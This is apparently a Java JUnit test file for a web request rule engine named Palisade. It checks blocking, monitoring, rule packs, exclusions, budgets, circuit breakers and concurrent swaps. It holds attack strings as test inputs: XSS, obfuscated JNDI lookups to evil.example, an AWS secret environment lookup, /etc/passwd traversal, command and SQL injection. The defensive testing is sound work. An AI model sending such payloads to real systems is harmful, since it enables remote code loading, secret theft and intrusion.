package io.palisade.core.rules;

import io.palisade.core.detect.Operator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.palisade.core.config.Settings;
import io.palisade.core.config.SettingsReader;
import io.palisade.core.counters.Counters;
import io.palisade.core.hook.HookTable;
import io.palisade.core.hook.JdbcHooks;
import io.palisade.core.net.IpRanges;
import io.palisade.core.request.Detection;
import io.palisade.core.request.InputSource;
import io.palisade.core.request.RequestContext;
import io.palisade.core.request.RequestLimits;
import io.palisade.core.request.RequestRecord;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;

/** The engine of one deployment: screening, request rules, budget, faults, the breaker and atomic swaps. */
class RuleEngineTest {

    static final Set<InputSource> ALL = EnumSet.allOf(InputSource.class);
    /** XSS only the heuristic rule sees (no dialog, no cookie): it blocks only with {@code palisade.rules.block=all}. */
    static final String HEURISTIC_XSS = "<iframe src=//evil.example/x>";

    private final Counters counters = new Counters();
    private final RequestContext requests = new RequestContext();

    private RuleEngine engine(String... keysAndValues) {
        return engine(null, keysAndValues);
    }

    /**
     * An engine where every rule blocks ({@code palisade.rules.block=all}) unless the keys say
     * otherwise: most tests here are about the engine's mechanics, which heuristic rules show best.
     */
    private RuleEngine engine(HookTable table, String... keysAndValues) {
        Map<String, String> config = new java.util.HashMap<>();
        config.put("palisade.rules.block", "all");
        for (int i = 0; i < keysAndValues.length; i += 2) {
            config.put(keysAndValues[i], keysAndValues[i + 1]);
        }
        Settings settings = SettingsReader.read(config::get);
        return new RuleEngine(settings, table, requests, counters);
    }

    static RequestRecord request(String path, String client, String... sourceNameValue) {
        RequestRecord record = new RequestRecord("r1", "GET", path, client, RequestLimits.DEFAULT);
        for (int i = 0; i < sourceNameValue.length; i += 3) {
            record.addInput(InputSource.valueOf(sourceNameValue[i]), sourceNameValue[i + 1], sourceNameValue[i + 2]);
        }
        return record;
    }

    @Test
    void anAttackInAnInputBlocksAndAnOrdinaryRequestPasses() {
        RuleEngine engine = engine();
        RequestRecord clean = request("/api/books/search", "192.0.2.1", "QUERY", "q", "O'Brien", "HEADER", "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0");
        assertThat(engine.screen(clean)).isNull();
        assertThat(engine.inspectRequest(clean)).isNull();
        assertThat(clean.hasDetections()).isFalse();

        RequestRecord xss = request("/api/books/search", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
        Detection found = engine.inspectRequest(xss);
        assertThat(found).isNotNull();
        assertThat(found.ruleId()).isEqualTo("xss-exploit");
        assertThat(found.attackType()).isEqualTo("xss");
        assertThat(found.blocked()).isTrue();
        assertThat(found.input().name()).isEqualTo("q");
        assertThat(xss.blocked()).isTrue();
    }

    @Test
    void byDefaultOnlyHighConfidenceRulesBlockAndHeuristicsReport() {
        RuleEngine defaults = new RuleEngine(Settings.defaults(), null, requests, counters);
        RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
        assertThat(defaults.inspectRequest(xss)).as("a heuristic reports").isNull();
        assertThat(xss.detections()).singleElement().satisfies(d -> {
            assertThat(d.ruleId()).isEqualTo("xss-request");
            assertThat(d.blocked()).isFalse();
            assertThat(d.confidence()).isEqualTo("heuristic");
        });
        RequestRecord jndi = request("/", "192.0.2.1", "HEADER", "User-Agent", "${jndi:ldap://evil.example/a}");
        assertThat(defaults.inspectRequest(jndi)).as("a high-confidence rule blocks").isNotNull()
                .satisfies(d -> assertThat(d.confidence()).isEqualTo("high"));
        for (String rule : List.of("xss-request", "path-traversal", "command-injection", "sqli-request")) {
            assertThat(defaults.rules().requestRules()).filteredOn(r -> r.id().equals(rule)).singleElement()
                    .extracting(Rule::confidence).isEqualTo(io.palisade.core.config.Confidence.HEURISTIC);
        }
        for (String rule : List.of("scanner-user-agent", "shellshock", "jndi-lookup")) {
            assertThat(defaults.rules().requestRules()).filteredOn(r -> r.id().equals(rule)).singleElement()
                    .extracting(Rule::confidence).isEqualTo(io.palisade.core.config.Confidence.HIGH);
        }
    }

    @Test
    void aModeThePackSetsWinsOverTheKey() throws RulePackException {
        RuleEngine engine = engine("palisade.rules.block", "high");
        engine.apply("""
                {"format": "palisade-rules/1", "version": "v", "rules": [
                  {"id": "xss-request", "attack_type": "xss", "confidence": "heuristic", "mode": "block",
                   "conditions": [{"inputs": ["query"], "operator": "detect_xss"}]},
                  {"id": "guess", "attack_type": "policy", "confidence": "heuristic",
                   "conditions": [{"inputs": ["query"], "operator": "phrases", "value": ["guess"]}]}
                ]}""", "test");
        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>")))
                .as("mode block in the pack").isNotNull();
        RequestRecord guess = request("/", "192.0.2.1", "QUERY", "q", "a guess");
        assertThat(engine.inspectRequest(guess)).as("a heuristic without a mode reports").isNull();
        assertThat(guess.detections()).singleElement().extracting(Detection::blocked).isEqualTo(false);
        RuleEngine all = engine("palisade.rules.block", "all");
        assertThat(all.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<svg onload=alert(1)>")))
                .as("palisade.rules.block=all").isNotNull();
        RuleEngine monitor = engine("palisade.rules.block", "all", "palisade.mode", "monitor");
        assertThat(monitor.inspectRequest(request("/", "192.0.2.1", "HEADER", "X-A", "${jndi:ldap://e.example/a}")))
                .as("palisade.mode=monitor reports everything without a mode").isNull();
    }

    @Test
    void beforeMatchingEveryRequestIsInspectedAndAfterMatchingOnlyWhatMatchingAdds() {
        RuleEngine engine = engine("palisade.rules.block", "high");
        // An unrouted probe: inspected before any resource is matched.
        RequestRecord probe = request("/no/such/page", "192.0.2.1", "QUERY", "file", "../../../../etc/passwd");
        assertThat(engine.inspectBeforeMatching(probe)).isNotNull().extracting(Detection::ruleId)
                .isEqualTo("path-traversal-exploit");

        // A heuristic on a query parameter is reported before matching, and not again after it.
        RequestRecord record = request("/api/books/search", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
        assertThat(engine.inspectBeforeMatching(record)).isNull();
        assertThat(record.detections()).singleElement().extracting(Detection::ruleId).isEqualTo("xss-request");
        record.bind(InputSource.QUERY, "q", List.of(HEURISTIC_XSS)); // what matching does for a bound parameter
        record.addBoundInput(InputSource.JSON, "bio", "${jndi:ldap://evil.example/a}");
        Detection after = engine.inspectMatched(record);
        assertThat(after).as("what matching added is inspected").isNotNull().extracting(Detection::ruleId)
                .isEqualTo("jndi-lookup");
        assertThat(record.detections()).extracting(Detection::ruleId).containsExactly("xss-request", "jndi-lookup");
    }

    @Test
    void aRuleWithSeveralConditionsCompletesAcrossThePhases() throws RulePackException {
        RuleEngine engine = engine();
        engine.apply("""
                {"format": "palisade-rules/1", "version": "v", "rules": [
                  {"id": "admin-form", "attack_type": "policy", "conditions": [
                    {"inputs": ["uri"], "operator": "regex", "value": "^/admin"},
                    {"inputs": ["form:role"], "operator": "equals", "value": ["root"]}]}
                ]}""", "test");
        RequestRecord record = request("/admin/users", "192.0.2.1", "HEADER", "Accept", "*/*");
        assertThat(engine.inspectBeforeMatching(record)).isNull();
        record.addBoundInput(InputSource.FORM, "role", "root");
        assertThat(engine.inspectMatched(record)).as("the URI matched before, the form field after").isNotNull()
                .extracting(Detection::ruleId).isEqualTo("admin-form");
        RequestRecord other = request("/public", "192.0.2.1");
        engine.inspectBeforeMatching(other);
        other.addBoundInput(InputSource.FORM, "role", "root");
        assertThat(engine.inspectMatched(other)).isNull();
    }

    @Test
    void anExclusionSwitchesOneRuleOffForOneInputOnOneRoute() throws RulePackException {
        RuleEngine engine = engine();
        engine.apply("""
                {"format": "palisade-rules/1", "version": "v", "rules": [], "exclusions": [
                  {"rule": "xss-request", "input": "json:bio", "path": "/api/profile",
                   "reason": "profiles hold HTML the page sanitises"},
                  {"rule": "command-injection", "input": "query:q", "path": "/api/docs/*"}
                ]}""", "test");
        RequestRecord bio = request("/api/profile", "192.0.2.1", "JSON", "bio", HEURISTIC_XSS);
        assertThat(engine.inspectRequest(bio)).isNull();
        assertThat(bio.detections()).isEmpty();
        assertThat(engine.inspectRequest(request("/api/profile", "192.0.2.1", "JSON", "name", HEURISTIC_XSS)))
                .as("another input on the same route").isNotNull();
        assertThat(engine.inspectRequest(request("/api/other", "192.0.2.1", "JSON", "bio", HEURISTIC_XSS)))
                .as("the same input on another route").isNotNull();
        assertThat(engine.inspectRequest(request("/api/profile", "192.0.2.1", "JSON", "bio", "<script>alert(1)</script>")))
                .as("the other rules still look at it").isNotNull().extracting(Detection::ruleId).isEqualTo("xss-exploit");
        assertThat(engine.inspectRequest(request("/api/docs/shell", "192.0.2.1", "QUERY", "q", "x; ls -la /tmp"))).isNull();
        assertThat(engine.inspectRequest(request("/api/doc", "192.0.2.1", "QUERY", "q", "x; ls -la /tmp"))).isNotNull();

        for (String[] bad : new String[][] {
            {"{\"rule\": \"no-such-rule\", \"input\": \"query:q\", \"path\": \"/\"}", "which is not in force"},
            {"{\"rule\": \"sqli-structure\", \"input\": \"query:q\", \"path\": \"/\"}", "takes no exclusions"},
            {"{\"rule\": \"xss-request\", \"input\": \"query:q\", \"path\": \"api\"}", "\"path\" is required"},
            {"{\"rule\": \"xss-request\", \"input\": \"method\", \"path\": \"/\"}", "must be an input"},
            {"{\"rule\": \"xss-request\", \"path\": \"/\"}", "\"input\" is required"},
            {"{\"rule\": \"xss-request\", \"input\": \"query\", \"path\": \"/\", \"route\": 1}", "route"}}) {
            assertThatThrownBy(() -> engine.apply("{\"format\": \"palisade-rules/1\", \"version\": \"w\", \"rules\": [],"
                    + " \"exclusions\": [" + bad[0] + "]}", "test")).as(bad[0]).isInstanceOf(RulePackException.class)
                    .hasMessageContaining(bad[1]);
        }
        assertThat(engine.rules().version()).as("the good pack stays").endsWith("+v");
    }

    @Test
    void jndiLookupsAreBlockedInAnyInputPlainOrObfuscated() {
        RuleEngine engine = engine();
        for (String lookup : List.of("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
                "${env:AWS_SECRET_ACCESS_KEY}")) {
            RequestRecord record = request("/", "192.0.2.1", "HEADER", "User-Agent", lookup);
            Detection found = engine.inspectRequest(record);
            assertThat(found).as(lookup).isNotNull();
            assertThat(found.ruleId()).isEqualTo("jndi-lookup");
        }
        for (String text : List.of("echo ${HOME}/bin", "${user.name} placeholder", "cost: $5 {approx}", "{{name}}")) {
            assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", text))).as(text).isNull();
        }
    }

    @Test
    void monitorModeAndMonitorRulesRecordWithoutBlocking() {
        RequestRecord xss = request("/", "192.0.2.1", "JSON", "user.bio", "<img src=x onerror=alert(1)>");
        Detection found = engine("palisade.mode", "monitor").inspectRequest(xss);
        assertThat(found).isNull();
        assertThat(xss.detections()).as("one report per attack type and input").singleElement().satisfies(d -> {
            assertThat(d.ruleId()).isEqualTo("xss-exploit");
            assertThat(d.blocked()).isFalse();
        });
        // The request-level SQL rule of the built-in pack is monitor-only: the JDBC check blocks.
        RequestRecord sql = request("/", "192.0.2.1", "QUERY", "id", "1 UNION SELECT password FROM users");
        assertThat(engine().inspectRequest(sql)).isNull();
        assertThat(sql.detections()).extracting(Detection::ruleId).containsExactly("sqli-request");
    }

    @Test
    void formFieldsAreInspectedWithEverythingElse() {
        RequestRecord form = request("/", "192.0.2.1", "FORM", "text", "<script>alert(1)</script>");
        assertThat(engine().inspectRequest(form)).isNotNull().extracting(Detection::attackType).isEqualTo("xss");
    }

    @Test
    void listsFromConfigurationScreenTheClient() {
        RuleEngine engine = engine("palisade.ip.denylist", "203.0.113.0/24, 2001:db8:bad::/48", "palisade.ip.allowlist",
                "192.0.2.10", "palisade.path.allowlist", "/health*,/metrics");
        RequestRecord denied = request("/api/books", "203.0.113.77");
        Detection screened = engine.screen(denied);
        assertThat(screened).isNotNull();
        assertThat(screened.ruleId()).isEqualTo(RuleEngine.IP_DENYLIST_RULE);
        assertThat(screened.reason()).doesNotContain("203.0.113.77");
        assertThat(engine.screen(request("/api/books", "2001:db8:bad:1::9"))).isNotNull();
        assertThat(engine.screen(request("/api/books", "203.0.114.1"))).isNull();

        // A path on the allowlist skips protection entirely, whoever asks.
        RequestRecord health = request("/health/ready", "203.0.113.77", "QUERY", "x", "<script>alert(1)</script>");
        assertThat(engine.screen(health)).isNull();
        assertThat(health.exempt()).isTrue();
        assertThat(engine.inspectRequest(health)).isNull();
        assertThat(health.hasDetections()).isFalse();

        // An allowlisted client is never blocked, but what it does is still recorded.
        RequestRecord trusted = request("/api/books", "192.0.2.10", "QUERY", "q", "<script>alert(1)</script>");
        assertThat(engine.screen(trusted)).isNull();
        assertThat(engine.inspectRequest(trusted)).isNull();
        assertThat(trusted.detections()).singleElement().satisfies(d -> assertThat(d.blocked()).isFalse());

        // In monitor mode a denylisted client is recorded, not blocked.
        RequestRecord monitored = request("/api/books", "203.0.113.77");
        assertThat(engine("palisade.mode", "monitor", "palisade.ip.denylist", "203.0.113.0/24").screen(monitored)).isNull();
        assertThat(monitored.detections()).extracting(Detection::ruleId).containsExactly(RuleEngine.IP_DENYLIST_RULE);
    }

    @Test
    void aPackReplacesTheRulesAndABadOneChangesNothing() throws Exception {
        RuleEngine engine = engine();
        RuleSet before = engine.rules();
        RuleSet after = engine.apply("""
                {"format": "palisade-rules/1", "version": "v2",
                 "rules": [{"id": "no-tea", "attack_type": "policy",
                            "conditions": [{"inputs": ["query:drink"], "operator": "equals", "value": ["tea"]}]}],
                 "disable": ["xss-request"], "data": {"ip_denylist": ["198.51.100.0/24"]}}""", "test");
        assertThat(engine.rules()).isSameAs(after).isNotSameAs(before);
        assertThat(after.version()).isEqualTo("builtin-2026.12.03+v2");
        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "drink", "tea")).ruleId()).isEqualTo("no-tea");
        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS))).isNull();
        assertThat(engine.screen(request("/", "198.51.100.4"))).isNotNull();

        assertThatThrownBy(() -> engine.apply("{\"format\": \"palisade-rules/1\", \"version\": \"v3\", \"rules\": "
                + "[{\"id\": \"x\", \"attack_type\": \"x\", \"conditions\": [{\"inputs\": [\"query\"], \"operator\": \"regex\","
                + " \"value\": \"(\"}]}]}", "test")).isInstanceOf(RulePackException.class).hasMessageContaining("rule 'x'");
        assertThat(engine.rules()).isSameAs(after);
        assertThat(engine.lastError()).contains("rule 'x'");
        assertThat(counters.snapshot()).containsEntry("rule_packs_rejected", 1L);
        assertThat(engine.status()).containsEntry("version", "builtin-2026.12.03+v2");
    }

    @Test
    void pastTheBudgetCriticalRulesRunOnEverythingAndTheOthersOnBoundInputs() {
        RuleEngine engine = engine("palisade.budget", "1ms");
        RequestRecord spent = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>", "HEADER", "User-Agent",
                "sqlmap/1.7");
        spent.addRuleNanos(Duration.ofMillis(2).toNanos()); // the request already used its budget
        Detection found = engine.inspectRequest(spent);
        assertThat(found).isNotNull();
        assertThat(found.ruleId()).as("the critical scanner rule still runs").isEqualTo("scanner-user-agent");
        assertThat(counters.snapshot()).containsEntry("budget_overruns", 1L);

        // An XSS in an input the resource does not receive: skipped past the budget, and the record says so.
        RequestRecord unbound = request("/", "192.0.2.1", "QUERY", "q", HEURISTIC_XSS);
        unbound.addRuleNanos(Duration.ofMillis(2).toNanos());
        assertThat(engine.inspectRequest(unbound)).isNull();
        assertThat(unbound.incompleteness()).containsExactly(io.palisade.core.request.Incompleteness.BUDGET);

        // The same XSS in an input the resource method receives: still inspected, still blocked.
        RequestRecord bound = request("/", "192.0.2.1");
        bound.addBoundInput(InputSource.QUERY, "q", HEURISTIC_XSS);
        bound.addRuleNanos(Duration.ofMillis(2).toNanos());
        assertThat(engine.inspectRequest(bound)).isNotNull().extracting(Detection::attackType).isEqualTo("xss");
        assertThat(engine.jdbc().breaker().isOpen()).as("overruns never open a breaker").isFalse();
    }

    @Test
    void anUnfinishedInspectionBlocksOnlyWhenConfiguredTo() {
        RuleEngine monitor = engine("palisade.budget", "1ms");
        RequestRecord spent = request("/", "192.0.2.1", "QUERY", "q", "fine");
        spent.addRuleNanos(Duration.ofMillis(2).toNanos());
        assertThat(monitor.inspectRequest(spent)).isNull();
        assertThat(spent.detections()).isEmpty();

        RuleEngine block = engine("palisade.budget", "1ms", "palisade.budget.exceeded", "block");
        RequestRecord again = request("/", "192.0.2.1", "QUERY", "q", "fine");
        again.addRuleNanos(Duration.ofMillis(2).toNanos());
        Detection found = block.inspectRequest(again);
        assertThat(found).isNotNull();
        assertThat(found.ruleId()).isEqualTo(RuleEngine.INSPECTION_INCOMPLETE_RULE);
        assertThat(found.blocked()).isTrue();

        // Padding past the input bound is an unfinished inspection too.
        RequestRecord padded = new RequestRecord("r", "GET", "/", "192.0.2.1", new RequestLimits(4, 64, 4, 1024, 0));
        for (int i = 0; i < 6; i++) {
            padded.addInput(InputSource.QUERY, "p" + i, "x");
        }
        assertThat(block.inspectRequest(padded)).isNotNull();
        assertThat(engine("palisade.budget.exceeded", "block").inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "ok")))
                .as("a complete inspection is never blocked for it").isNull();
    }

    @Test
    void aFaultyRuleIsCountedAndSkippedOnItsOwnWhileEverythingElseRuns() {
        JdbcHooks jdbc = new JdbcHooks();
        HookTable table = HookTable.builder().jdbc(jdbc).build();
        RuleEngine engine = engine(table, "palisade.budget", "1s"); // faults only, no overruns
        assertThat(jdbc.executeQuery.chain()).as("the SQL check is attached").isNotNull();

        Rule faulty = new Rule("faulty", "faulty", "test", Rule.Target.REQUEST, null, 1, false,
                List.of(new Rule.Condition(List.of(InputSelector.parse("query")), List.of(),
                        new Operator("regex", value -> {
                            throw new IllegalStateException("bug in a rule");
                        }))));
        RuleSet base = engine.rules();
        List<Rule> rules = new java.util.ArrayList<>(base.requestRules());
        rules.add(0, faulty);
        engine.install(new RuleSet("faulty", "test", rules, base.jdbcRules(), IpRanges.NONE, IpRanges.NONE, List.of()));

        RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
        assertThat(engine.inspectRequest(xss)).as("the rules after the faulty one still run").isNotNull();
        assertThat(counters.snapshot()).containsEntry("rule_faults", 1L);

        for (int i = 0; i < 60; i++) {
            engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "fine"));
        }
        assertThat(counters.snapshot()).containsEntry("breaker_trips", 1L);
        RequestRecord later = request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>");
        assertThat(engine.inspectRequest(later)).as("only the faulty rule is skipped").isNotNull();
        assertThat(later.incompleteness()).contains(io.palisade.core.request.Incompleteness.RULE_SKIPPED);
        assertThat(engine.jdbc().breaker().isOpen()).as("request-rule faults never detach the SQL check").isFalse();
        assertThat(jdbc.executeQuery.chain()).isNotNull();
        assertThat(engine.jdbc().hookPoints()).isNotEmpty();
        assertThat(engine.status()).containsEntry("breaker", "closed");
    }

    @Test
    void onlyFaultsOfTheSqlCheckItselfDetachIt() {
        JdbcHooks jdbc = new JdbcHooks();
        HookTable table = HookTable.builder().jdbc(jdbc).build();
        RuleEngine engine = engine(table);
        // A throwing callback on a JDBC hook point stands for a bug in the SQL check.
        table.install(io.palisade.core.hook.CallbackSet.builder().add(jdbc.executeQuery,
                io.palisade.core.hook.Callback.builder("broken").expects(String.class).prolog(call -> {
                    throw new IllegalStateException("bug in the SQL check");
                }).build()).build());
        for (int i = 0; i < 60 && !engine.jdbc().breaker().isOpen(); i++) {
            jdbc.executeQuery.chain().enter(jdbc.executeQuery,
                    io.palisade.core.hook.Arguments.of(new Object[] {"SELECT 1"}));
        }
        assertThat(engine.jdbc().breaker().isOpen()).isTrue();
        assertThat(engine.jdbc().hookPoints()).as("the SQL check is detached for the backoff").isEmpty();
        assertThat(counters.snapshot()).containsEntry("breaker_trips", 1L);
        assertThat(engine.inspectRequest(request("/", "192.0.2.1", "QUERY", "q", "<script>alert(1)</script>")))
                .as("request rules go on").isNotNull();
    }

    @Test
    void theBreakerClosesAfterItsBackoffAndReattaches() {
        AtomicLong opened = new AtomicLong();
        AtomicLong closed = new AtomicLong();
        CircuitBreaker breaker = new CircuitBreaker(3, Duration.ofSeconds(60), Duration.ofMillis(1), Duration.ofMillis(4),
                new CircuitBreaker.Listener() {
                    @Override
                    public void opened(int trip, Duration backoff) {
                        opened.incrementAndGet();
                    }

                    @Override
                    public void closed() {
                        closed.incrementAndGet();
                    }
                });
        breaker.record();
        breaker.record();
        assertThat(breaker.allows()).isTrue();
        breaker.record();
        assertThat(breaker.isOpen()).isTrue();
        assertThat(opened.get()).isEqualTo(1);
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(5)).until(breaker::allows);
        assertThat(breaker.isOpen()).isFalse();
        assertThat(closed.get()).isEqualTo(1);
    }

    @Test
    void aSwapUnderConcurrentRequestsNeverLeavesARequestUnprotected() throws Exception {
        JdbcHooks jdbc = new JdbcHooks();
        HookTable table = HookTable.builder().jdbc(jdbc).build();
        // A budget no thread can overrun by being descheduled: this test is about swaps, not budgets.
        RuleEngine engine = engine(table, "palisade.budget", "1s");
        // Two packs that both block the same attack under different rule ids, swapped back and forth.
        String[] packs = new String[2];
        for (int i = 0; i < 2; i++) {
            packs[i] = "{\"format\":\"palisade-rules/1\",\"version\":\"p" + i + "\",\"base\":\"none\",\"rules\":["
                    + "{\"id\":\"sqli-" + i + "\",\"attack_type\":\"sql_injection\",\"target\":\"jdbc\","
                    + "\"operator\":\"detect_sql_structure\"},"
                    + "{\"id\":\"xss-" + i + "\",\"attack_type\":\"xss\",\"conditions\":[{\"inputs\":[\"query\"],"
                    + "\"operator\":\"detect_xss\"}]}]}";
        }
        int threads = 4;
        AtomicBoolean stop = new AtomicBoolean();
        AtomicLong inspected = new AtomicLong();
        AtomicLong unprotected = new AtomicLong();
        AtomicLong jdbcGaps = new AtomicLong();
        CountDownLatch done = new CountDownLatch(threads);
        for (int t = 0; t < threads; t++) {
            Thread worker = new Thread(() -> {
                try {
                    while (!stop.get()) {
                        RequestRecord xss = request("/", "192.0.2.1", "QUERY", "q", "<svg onload=alert(1)>");
                        Detection found = engine.inspectRequest(xss);
                        if (found == null || !found.blocked()) {
                            unprotected.incrementAndGet();
                        }
                        if (jdbc.executeQuery.chain() == null) {
                            jdbcGaps.incrementAndGet();
                        }
                        inspected.incrementAndGet();
                    }
                } finally {
                    done.countDown();
                }
            });
            worker.start();
        }
        for (int swap = 0; swap < 2_000; swap++) {
            engine.apply(packs[swap % 2], "swap");
        }
        stop.set(true);
        done.await();
        assertThat(inspected.get()).isPositive();
        assertThat(unprotected.get()).as("requests that saw no XSS rule").isZero();
        assertThat(jdbcGaps.get()).as("moments with no SQL check on executeQuery").isZero();
        assertThat(engine.jdbc().hookPoints()).contains(jdbc.executeQuery);
    }
}
